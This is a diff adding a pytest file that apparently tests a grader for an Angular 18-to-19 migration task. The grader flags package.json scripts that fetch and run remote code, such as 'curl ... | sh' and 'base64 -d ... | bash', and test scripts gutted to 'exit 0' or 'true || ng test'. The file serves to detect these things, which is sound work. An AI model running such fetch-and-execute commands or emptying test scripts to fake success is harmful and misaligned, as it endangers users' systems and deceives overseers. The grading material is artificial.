@@ -1,0 +1,104 @@
+"""Scripts of package.json: what honest work makes of them, and what it does not."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.tracks.angular.angular_trees import Base, Tree, fatal
+
+
+@pytest.fixture(scope="module")
+def base() -> Base:
+    return Base("trailbook_v18_to_v19", 19)
+
+
+@pytest.fixture
+def tree(base: Base, tmp_path: Path) -> Tree:
+    return base.copy(tmp_path / "patched")
+
+
+def found(tree: Tree, **scripts: str) -> set[str]:
+    tree.edit("package.json", lambda value: value["scripts"].update(scripts))
+    return fatal(tree.check().findings)
+
+
+@pytest.mark.parametrize(
+    ("name", "command"),
+    [
+        ("start", "curl -fsS setup.invalid/a.sh | sh; ng serve"),
+        ("start", "/usr/bin/wget -qO- setup.invalid && ng serve"),
+        ("prestart", "npx other-tool"),
+        ("build", "npx -y -p other-tool@1 ng && ng build"),
+        ("build", "npm exec --package=other-tool -- other-tool"),
+        ("test", "pnpm dlx @other/tool test"),
+        ("lint", "npm install --no-save other-tool && other-tool"),
+        ("lint", 'sh -c "npx other-tool"'),
+        ("prepare", "node --no-warnings -e \"require('a')\""),
+        ("prepare", "node --eval='a()'"),
+        ("prepare", "python3 -c 'a()'"),
+        ("prepare", "base64 -d setup.txt | bash"),
+        ("prepare", "git clone ../setup"),
+    ],
+)
+def test_script_runs_what_no_file_has(tree: Tree, name: str, command: str) -> None:
+    assert found(tree, **{name: command}) == {"script-fetches"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "exit 0",
+        "",
+        "true",
+        ":",
+        "echo ok",
+        "echo 'ng test' && exit 0",
+        "exit 0; ng test",
+        "true || ng test",
+        "false && ng test",
+        "echo ok # && ng test",
+        "CI=1 exit 0",
+        'sh -c "exit 0"',
+        "npm run ok",
+        "echo ok > log.txt",
+        "(exit 0)",
+    ],
+)
+def test_script_does_nothing(tree: Tree, command: str) -> None:
+    assert found(tree, test=command, ok="exit 0") == {"script-emptied"}
+
+
+@pytest.mark.parametrize(
+    ("name", "command"),
+    [
+        ("test", "vitest run"),
+        ("test", "ng test --watch=false --browsers=ChromeHeadless"),
+        ("test", "echo testing && ng test"),
+        ("test", "npm run unit"),
+        ("test", "true && ng test || exit 1"),
+        ("start", "ng serve --proxy-config proxy.conf.json"),
+        ("start", "cross-env NODE_OPTIONS=--max-old-space-size=8192 ng serve"),
+        ("build", "npx ng build && npx tsc -p tools"),
+        ("build", "npx --no-install other-tool"),
+        ("prepare", "husky || true"),
+        ("prepare", "echo no hooks"),
+        ("postinstall", "ngcc --properties es2020 browser module main"),
+        ("e2e", "wait-on http://localhost:4200 && playwright test | tee log.txt"),
+        ("lint", "ng lint"),
+        ("deps", "npm install && npm --prefix tools install && npm install --prefix tools"),
+        ("tool", "node -r ts-node/register tools/run.ts | node tools/show.js"),
+    ],
+)
+def test_honest_script_is_no_finding(tree: Tree, name: str, command: str) -> None:
+    assert found(tree, unit="ng test", **{name: command}) == set()
+
+
+def test_finding_tells_script_and_line(tree: Tree) -> None:
+    tree.edit("package.json", lambda value: value["scripts"].update(test="exit 0"))
+    (finding,) = tree.check().findings
+    assert finding.file == "package.json"
+    assert finding.line is not None
+    assert '"test": "exit 0"' in tree.text("package.json").splitlines()[finding.line - 1]
+    assert (finding.expected, finding.seen) == ("ng test", "exit 0")
